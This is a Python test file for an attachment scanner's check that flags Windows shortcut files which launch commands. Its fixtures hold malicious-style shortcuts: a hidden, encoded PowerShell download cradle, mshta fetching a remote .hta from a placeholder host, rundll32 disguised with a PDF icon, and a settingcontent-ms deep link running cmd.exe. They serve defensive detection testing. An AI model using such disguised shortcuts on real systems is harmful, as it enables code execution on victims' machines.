"""Shortcuts that shortcut_starts_command must find, and (more) that it must leave alone."""

from __future__ import annotations

import base64
import warnings

import pytest

from tests import files
from tests import files_scripts as scripts
from tests.corpora import attachments
from tests.files_shortcuts import COMMAND_SHELL, POWERSHELL, internet_shortcut, link_file
from tests.workers.attachments.scan import File, files_of, found
from workers.attachments.windows_links import read_link

ENCODED = base64.b64encode(scripts.CRADLE.encode("utf-16-le")).decode()
DEEP = b"<PCSettings><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink>"

BAD: dict[str, File] = {
    "the shell": ("invoice.pdf.lnk", link_file(COMMAND_SHELL, "/c start a.js")),
    "PowerShell, encoded": ("a.lnk", link_file(POWERSHELL, f"-w hidden -enc {ENCODED}", show=7)),
    "a page that runs": ("b.lnk", link_file("C:\\Windows\\System32\\mshta.exe", "https://files.example/a.hta")),
    "a library": ("c.lnk", link_file("C:\\Windows\\System32\\rundll32.exe", "a.dll,Start", icon="C:\\Users\\a.pdf")),
    "blanks before the command": ("d.lnk", link_file("C:\\a.exe", " " * 300 + "/run")),
    "by a variable": ("e.lnk", link_file("%ComSpec%\\cmd.exe", "/c a.bat")),
    "in a zip": ("f.zip", files.zip_file({"scan.lnk": link_file(COMMAND_SHELL, "/c a.vbs")})),
    "a setting": ("g.settingcontent-ms", DEEP),
}
GOOD: dict[str, File] = {
    "a document": ("a.lnk", link_file("C:\\Users\\ann\\Documents\\report.docx")),
    "a program": ("b.lnk", link_file("C:\\Program Files\\App\\app.exe")),
    "a program with arguments": ("c.lnk", link_file("C:\\Program Files\\App\\app.exe", "/profile work")),
    "a share": ("d.lnk", link_file("\\\\server\\projects\\2026")),
    "an empty shell": ("e.lnk", link_file(COMMAND_SHELL)),
    "a folder": ("f.lnk", link_file("C:\\Windows\\explorer.exe", "C:\\Projects")),
    "a web page": ("g.lnk", link_file("C:\\Program Files\\Google\\chrome.exe", "--app=https://example.com/")),
    "an internet shortcut": ("h.url", internet_shortcut("https://example.com/")),
    "no shortcut": ("i.lnk", b"L\x00\x00\x00 cut off"),
    "a text": ("j.txt", b"cmd.exe /c start a.js\n"),
}


def test_the_command_is_shown_decoded() -> None:
    (finding,) = found("shortcut_starts_command", BAD["PowerShell, encoded"])
    assert scripts.CRADLE in finding.detail
    assert "hides its window" in finding.detail


def test_what_hangs_behind_is_a_file_of_the_tree() -> None:
    tree, _ = files_of(("a.lnk", link_file(COMMAND_SHELL, "/c a", appended=files.windows_program() + bytes(600))))
    assert [(file.path, file.true_type, file.reached) for file in tree[1:]] == [
        ("a.lnk/appended", "application/vnd.microsoft.portable-executable", "appended")
    ]


@pytest.mark.corpus
def test_real_link_files_are_read_as_another_library_reads_them() -> None:
    from LnkParse3.lnk_file import LnkFile

    for path in sorted(attachments("misc/lnkparse3/tests/samples").iterdir()):
        data = base64.b64decode(path.read_bytes())
        with warnings.catch_warnings():
            # It warns of what is damaged in them on purpose.
            warnings.simplefilter("ignore")
            other = LnkFile(indata=data).string_data
        assert read_link(data).arguments == (other.command_line_arguments() or ""), path.name


@pytest.mark.parametrize("file", BAD.values(), ids=BAD)
def test_is_found(file: File) -> None:
    assert len(found("shortcut_starts_command", file)) == 1


@pytest.mark.parametrize("file", GOOD.values(), ids=GOOD)
def test_is_left_alone(file: File) -> None:
    assert found("shortcut_starts_command", file) == []
